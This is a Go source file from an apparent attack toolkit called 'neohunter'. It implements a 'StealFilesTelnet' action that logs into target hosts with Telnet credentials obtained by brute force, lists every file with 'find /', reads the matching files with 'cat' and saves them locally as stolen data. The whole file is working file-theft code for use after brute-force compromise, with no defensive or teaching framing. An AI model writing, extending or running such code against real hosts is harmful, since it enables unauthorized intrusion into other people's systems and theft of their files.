package actions

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"neohunter/internal/core/model"
	"neohunter/internal/core/scanner/brute"
	"neohunter/internal/core/scanner/brute/protocol"
	"neohunter/internal/pkg/logger"
)

// StealFilesTelnet 使用 Telnet 爆破得到的凭据登录，find 列出文件后逐个 cat 回传
// 输出经过终端转换，只适合文本文件
type StealFilesTelnet struct {
	store *brute.CredentialStore
	deps  Deps
}

func NewStealFilesTelnet(store *brute.CredentialStore, deps Deps) *StealFilesTelnet {
	return &StealFilesTelnet{store: store, deps: deps}
}

func (a *StealFilesTelnet) Execute(ctx context.Context, ip string, port int, record *model.TargetRecord, key string) model.Outcome {
	cfg := a.deps.config()
	creds := uniqueCredentials(credentialsFor(a.store, ip))
	if len(creds) == 0 {
		logger.Warnf("%s: no credentials found for %s", key, ip)
		return model.OutcomeFailed
	}

	wd := startWatchdog(stealWatchdog(cfg), fmt.Sprintf("%s %s", key, ip))
	defer wd.Stop()

	matcher := newFileMatcher(cfg.Steal)
	maxDepth := 0
	if cfg.Steal != nil {
		maxDepth = cfg.Steal.MaxDepth
	}
	start := time.Now()

	for _, cred := range creds {
		if ctx.Err() != nil || wd.Stopped() {
			break
		}

		dialCtx, cancel := context.WithTimeout(ctx, 15*time.Second)
		session, err := protocol.DialTelnet(dialCtx, ip, port, cred)
		cancel()
		if err != nil {
			logger.Debugf("%s: telnet login %s@%s failed: %v", key, cred.User, ip, err)
			continue
		}
		wd.MarkConnected()

		dir := stolenDir(cfg, "telnet", record.MAC, ip, cred.User)
		n := stealTelnet(ctx, session, matcher, maxDepth, dir, wd)
		session.Close()

		if n > 0 {
			logger.LogActionOperation(key, ip, "success", time.Since(start), map[string]interface{}{
				"user":  cred.User,
				"files": n,
			})
			return model.OutcomeSuccess
		}
	}

	logger.Warnf("%s: no files retrieved from %s:%d", key, ip, port)
	return model.OutcomeFailed
}

func stealTelnet(ctx context.Context, s *protocol.TelnetSession, m fileMatcher, maxDepth int, dir string, wd *watchdog) int {
	cmd := "find / -type f 2>/dev/null"
	if maxDepth > 0 {
		cmd = fmt.Sprintf("find / -maxdepth %d -type f 2>/dev/null", maxDepth)
	}
	out, err := s.Run(ctx, cmd)
	if err != nil {
		logger.Warnf("Remote file listing failed: %v", err)
		return 0
	}

	n := 0
	for _, remote := range strings.Split(string(out), "\n") {
		remote = strings.TrimSpace(remote)
		if remote == "" || !strings.HasPrefix(remote, "/") || !m.Match(remote) {
			continue
		}
		if ctx.Err() != nil || wd.Stopped() {
			break
		}
		data, err := s.Run(ctx, "cat "+shellQuote(remote))
		if err != nil {
			logger.Warnf("Failed to read %s: %v", remote, err)
			continue
		}
		local := localPath(dir, remote)
		if err := os.MkdirAll(filepath.Dir(local), 0755); err != nil {
			logger.Warnf("Failed to create %s: %v", filepath.Dir(local), err)
			continue
		}
		if err := os.WriteFile(local, data, 0644); err != nil {
			logger.Warnf("Failed to save %s: %v", local, err)
			continue
		}
		logger.Infof("Downloaded %s to %s", remote, local)
		n++
	}
	return n
}
